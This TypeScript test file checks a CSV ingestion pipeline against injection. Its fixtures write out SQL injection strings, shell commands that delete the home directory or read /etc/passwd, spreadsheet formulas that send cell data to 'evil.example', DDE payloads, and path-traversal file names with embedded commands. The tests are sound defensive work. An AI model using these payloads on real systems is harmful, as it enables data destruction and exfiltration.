import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { sql } from 'slonik';
import { z } from 'zod';
import { rejectsReportKey, UPLOAD_PREFIX } from '../../src/storage/object-keys.ts';
import { startPipelineHarness, type PipelineHarness } from '../support/pipeline-harness.ts';

/**
 * Values and names written to attack something downstream are data: SQL, shell and spreadsheet
 * formulas round-trip byte for byte as text; file names cannot leave the upload prefix.
 */

const HEADER = 'order_ref,order_date,customer_email,customer_region,sku,product_name,category,quantity,unit_price,payment_method';

let harness: PipelineHarness;
let workDir: string;

beforeAll(async () => {
  harness = await startPipelineHarness();
  workDir = await mkdtemp(join(tmpdir(), 'pipeforge-hostile-'));
});

afterAll(async () => {
  await harness?.stop();
  await rm(workDir, { recursive: true, force: true });
});

/** RFC 4180 quoting, as any exporter would write these values. */
function csvField(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

const HOSTILE = {
  sql: "'); drop table orders; --",
  sqlDoubleDash: "Robert'); DROP TABLE customers;-- ",
  shell: '$(rm -rf ~)',
  backticks: '`cat /etc/passwd` && echo pwned > /tmp/x',
  formula: '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")',
  plusFormula: '+cmd|\' /C calc\'!A0',
  atFormula: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  percentAndBackslash: "100% \\x00 \\' \\\\ %s %n",
  unicode: 'Café ☕ “quotes” ‮reversed‬ 𝒯',
  // Staging is written with COPY's text format, where these mean a column break, a row break and null.
  copyEscapes: 'tab\there \\N back\\slash\nsecond line',
};

describe('hostile values', () => {
  const rows: Array<{ ref: string; sku: string; name: string; category: string; region: string }> = [
    { ref: HOSTILE.sql, sku: 'HOST-1', name: HOSTILE.shell, category: HOSTILE.formula, region: HOSTILE.sqlDoubleDash },
    { ref: 'HOST-REF-2', sku: HOSTILE.sql, name: HOSTILE.formula, category: HOSTILE.backticks, region: HOSTILE.shell },
    { ref: 'HOST-REF-3', sku: 'HOST-3', name: HOSTILE.plusFormula, category: HOSTILE.atFormula, region: HOSTILE.formula },
    { ref: 'HOST-REF-4', sku: 'HOST-4', name: HOSTILE.percentAndBackslash, category: HOSTILE.unicode, region: HOSTILE.backticks },
    // Its quoted line feed makes the record two physical lines: the lines below it move down one.
    { ref: 'HOST-REF-5', sku: 'HOST-5', name: HOSTILE.copyEscapes, category: '\\N', region: 'back\\slash\tregion' },
  ];

  let summary: Awaited<ReturnType<PipelineHarness['ingest']>>;

  beforeAll(async () => {
    const lines = rows.map((row, i) =>
      [row.ref, '2026-09-01T10:00:00Z', `hostile${i}@example.com`, row.region, row.sku, row.name, row.category, '1', '10.00', 'card']
        .map(csvField)
        .join(','),
    );
    // Enough clean rows that the two rejected lines below stay within the reject ratio.
    for (let i = 0; i < 60; i++) lines.push(`HOST-OK-${i},2026-09-01T10:00:00Z,ok@example.com,,HOST-OK,Fine,Cat,1,1.00,card`);
    lines.push(['=HYPERLINK("http://evil.example","x")', '2026-09-01', 'bad@example.com', '', 'HOST-BAD', 'X', 'C', '0', '1.00', 'card'].map(csvField).join(','));
    lines.push(`-2+3,2026-09-01,nul@example.com,,HOST-NUL,Tea\u0000bag,C,1,1.00,card`);
    const path = join(workDir, 'hostile.csv');
    await writeFile(path, `${[HEADER, ...lines].join('\r\n')}\r\n`);
    summary = await harness.ingest(path);
  });

  it('loads them, rejecting only the broken rows', () => {
    expect(summary).toMatchObject({ status: 'completed', rowsRead: 67, rowsLoaded: 65, rowsRejected: 2 });
  });

  it('stores SQL, shell and formula text byte for byte as plain text', async () => {
    const stored = await harness.pool.any(sql.type(
      z.object({ ref: z.string(), sku: z.string(), name: z.string(), category: z.string(), region: z.string().nullable() }),
    )`select o.order_ref as ref, p.sku, p.name, p.category, c.region
      from orders o join order_items oi on oi.order_id = o.id join products p on p.id = oi.product_id
      join customers c on c.id = o.customer_id
      where p.sku <> 'HOST-OK' order by o.order_ref`);
    expect(stored).toEqual(
      [...rows].sort((a, b) => (a.ref < b.ref ? -1 : a.ref > b.ref ? 1 : 0)).map((row) => ({
        ref: row.ref,
        sku: row.sku,
        name: row.name,
        category: row.category,
        region: row.region.trim(),
      })),
    );
    // The tables the SQL text names are all still there.
    const tables = await harness.pool.oneFirst(sql.type(z.object({ n: z.number() }))`
      select count(*) as n from information_schema.tables where table_schema = 'public' and table_name in ('orders', 'customers')`);
    expect(tables).toBe(2);
  });

  it('rejects a NUL character (PostgreSQL cannot store it) instead of retrying forever', async () => {
    const rejects = await harness.pool.any(sql.type(z.object({ line: z.number(), column: z.string(), reason: z.string() }))`
      select line_number as line, column_name as column, reason from ingestion_rejects
      where ingestion_file_id = ${summary.fileId} order by line_number`);
    expect(rejects).toEqual([
      { line: 68, column: 'quantity', reason: 'quantity "0" is not a whole number ≥ 1' },
      { line: 69, column: 'product_name', reason: 'product_name contains a NUL character, which cannot be stored' },
    ]);
  });

  it('neutralises formula prefixes in the rejects report', async () => {
    const chunks: Buffer[] = [];
    for await (const chunk of await harness.store.read(rejectsReportKey(summary.objectKey))) chunks.push(chunk as Buffer);
    const report = parse(Buffer.concat(chunks)) as string[][];
    expect(report.slice(1).map((row) => row[2])).toEqual([
      // A line starting with a quote is text to a spreadsheet already.
      '"=HYPERLINK(""http://evil.example"",""x"")",2026-09-01,bad@example.com,,HOST-BAD,X,C,0,1.00,card',
      "'-2+3,2026-09-01,nul@example.com,,HOST-NUL,Tea\u0000bag,C,1,1.00,card",
    ]);
  });
});

describe('hostile file names', () => {
  it.each([
    ['../../etc/passwd;rm -rf ~.csv', 'passwd_rm_-rf_.csv'],
    ['..\\..\\windows\\system32\\evil $(id).csv', 'evil_id_.csv'],
    ['orders\n\u0007\u001b[31mred.csv', 'orders_31mred.csv'],
    ['..', 'unnamed.csv'],
  ])('keeps %j under the upload prefix as %j, and reports the name as given', async (filename, safeName) => {
    const path = join(workDir, `name-${Buffer.from(filename).toString('hex').slice(0, 24)}.csv`);
    await writeFile(path, `${HEADER}\nNAME-${safeName},2026-09-01,n@example.com,,SKU-N,P,C,1,1.00,card\n`);
    const summary = await harness.ingest(path, filename);
    expect(summary.status).toBe('completed');
    expect(summary.objectKey).toMatch(new RegExp(`^${UPLOAD_PREFIX}[0-9a-f]{64}/${safeName.replace(/[.]/g, '\\.')}$`));
    expect(summary.objectKey.split('/')).toHaveLength(3);
    expect(await harness.store.size(summary.objectKey)).toBeGreaterThan(0);
    expect(summary.filename).toBe(filename);
    const file = await harness.pool.one(sql.type(z.object({ filename: z.string(), filePath: z.string() }))`
      select filename, file_path as "filePath" from ingestion_files where id = ${summary.fileId}`);
    expect(file).toEqual({ filename, filePath: `${harness.store.bucket}/${summary.objectKey}` });
  });
});
